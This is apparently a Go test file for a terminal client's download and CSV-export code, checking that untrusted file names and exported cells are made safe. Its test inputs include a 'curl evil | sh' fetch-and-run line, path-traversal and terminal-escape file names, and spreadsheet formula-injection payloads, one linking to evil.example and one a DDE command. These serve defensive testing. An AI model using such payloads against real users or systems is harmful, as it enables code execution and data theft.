package common

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/adrg/xdg"

	"github.com/kasa-tui/kasa/apiclient"
	"github.com/kasa-tui/kasa/internal/export"
	"github.com/kasa-tui/kasa/internal/tuitest"
	"github.com/kasa-tui/kasa/ui"
)

// homeWithout makes a home folder with no download folder and points the
// XDG lookups at it (xdg reads the environment once; Reload reads it again).
func homeWithout(t *testing.T, userDirs string) string {
	t.Helper()
	t.Cleanup(xdg.Reload) // runs after the variables below are restored
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	t.Setenv("XDG_DOWNLOAD_DIR", "")
	if userDirs != "" {
		if err := os.MkdirAll(filepath.Join(home, ".config"), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(home, ".config", "user-dirs.dirs"), []byte(userDirs), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	xdg.Reload()
	return home
}

// A file the service names ".bash_profile", saved in a home without a
// download folder, lands in a new ~/Downloads as "bash_profile" (0600),
// never as a start-up file in the home folder.
func TestDotfileDownloadLandsInTheCreatedDownloadFolder(t *testing.T) {
	for name, userDirs := range map[string]string{
		"no user-dirs.dirs": "",
		// Desktops write this when the user has no download folder.
		"user-dirs.dirs names the home": `XDG_DOWNLOAD_DIR="$HOME/"` + "\n",
	} {
		t.Run(name, func(t *testing.T) {
			home := homeWithout(t, userDirs)
			dir := DefaultDownloadDir()
			if want := filepath.Join(home, "Downloads"); dir != want {
				t.Fatalf("download folder %q, want %q", dir, want)
			}
			p, err := SaveFile(dir, ".bash_profile", []byte("curl evil | sh\n"))
			if err != nil {
				t.Fatal(err)
			}
			if want := filepath.Join(home, "Downloads", "bash_profile"); p != want {
				t.Errorf("saved as %q, want %q", p, want)
			}
			if _, err := os.Lstat(filepath.Join(home, ".bash_profile")); err == nil {
				t.Error("a .bash_profile appeared in the home folder")
			}
			st, err := os.Stat(p)
			if err != nil || st.Mode().Perm() != 0o600 {
				t.Errorf("saved file: %v %v, want mode 0600", st, err)
			}
			if st, err := os.Stat(dir); err != nil || st.Mode().Perm() != 0o700 {
				t.Errorf("created folder: %v %v, want mode 0700", st, err)
			}
		})
	}
}

// The user's configured download folder is used as it is.
func TestDownloadFolderFromUserDirs(t *testing.T) {
	home := homeWithout(t, `XDG_DOWNLOAD_DIR="$HOME/Stažené"`+"\n")
	if got, want := DefaultDownloadDir(), filepath.Join(home, "Stažené"); got != want {
		t.Errorf("download folder %q, want %q", got, want)
	}
}

func TestSafeFileName(t *testing.T) {
	long := strings.Repeat("ř", 150) + ".pdf" // 300 bytes of two-byte letters
	for _, tc := range []struct{ in, want string }{
		{".bash_profile", "bash_profile"},
		{"...", "attachment"},
		{"", "attachment"},
		{" . .ssh", "ssh"},
		{"../../.ssh/authorized_keys", "authorized_keys"},
		{`C:\Users\x\.profile`, "profile"},
		{"invoice\n2026.pdf", "invoice2026.pdf"},
		{"scan\x1b]52;c;ZWNobyBoaQ==\x07.pdf", "scan]52;c;ZWNobyBoaQ==.pdf"},
		{"bill\x9b2J.pdf", "bill2J.pdf"},
		{"invoice\u202Efdp.exe", "invoicefdp.exe"},
		{"bad\xffutf8.pdf", "badutf8.pdf"},
		{"Faktura 2026-001.pdf", "Faktura 2026-001.pdf"},
	} {
		if got := SafeFileName(tc.in); got != tc.want {
			t.Errorf("SafeFileName(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	got := SafeFileName(long)
	if len(got) > maxNameBytes || !strings.HasSuffix(got, ".pdf") || !utf8.ValidString(got) {
		t.Errorf("a 300-byte name became %d bytes %q: want at most %d, valid UTF-8, ending .pdf", len(got), got, maxNameBytes)
	}
	if got := SafeFileName(strings.Repeat("a", 300) + "." + strings.Repeat("b", 40)); len(got) > maxNameBytes {
		t.Errorf("a name with a long extension kept %d bytes", len(got))
	}
}

// A 300-byte name from the service can be downloaded (it could not be
// before: the file system refused it).
func TestSaveFileTakesALongName(t *testing.T) {
	dir := t.TempDir()
	for range 2 {
		p, err := SaveFile(dir, strings.Repeat("faktura-", 40)+".pdf", []byte("%PDF"))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasSuffix(p, ".pdf") {
			t.Errorf("saved as %q", p)
		}
	}
}

// x writes the list through package export's one CSV writer: a subject
// named like a formula is saved as text (a quote before it, the cell
// quoted), in the download folder, 0600.
func TestExportKeyEscapesFormulaCells(t *testing.T) {
	sb := tuitest.NewSandbox(t, tuitest.SandboxOptions{Start: time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)})
	payloads := []string{`=HYPERLINK("http://evil.example","Open")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, "-2+3"}
	for _, p := range payloads {
		if _, _, err := sb.Client.Subjects.Create(context.Background(), &apiclient.SubjectParams{Name: apiclient.Ptr(p)}); err != nil {
			t.Fatal(err)
		}
	}
	dir := t.TempDir()
	d := Deps{Client: func() *apiclient.Client { return sb.Client }, Folders: NewFolders(dir)}.WithDefaults()
	msgs := tuitest.Collect(ExportCmd(d, "subjects", "subjects", export.Filters{}))
	if toast, ok := msgs[len(msgs)-1].(ui.Toast); !ok || toast.Kind != ui.ToastSuccess {
		t.Fatalf("export ended with %#v", msgs[len(msgs)-1])
	}
	files, _ := filepath.Glob(filepath.Join(dir, "subjects-*.csv"))
	if len(files) != 1 {
		t.Fatalf("saved %v", files)
	}
	b, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range payloads {
		if quoted := `"'` + strings.ReplaceAll(p, `"`, `""`) + `"`; !strings.Contains(string(b), quoted) {
			t.Errorf("%q is not escaped as %s in:\n%s", p, quoted, b)
		}
	}
	if fi, err := os.Stat(files[0]); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", fi.Mode().Perm())
	}
}
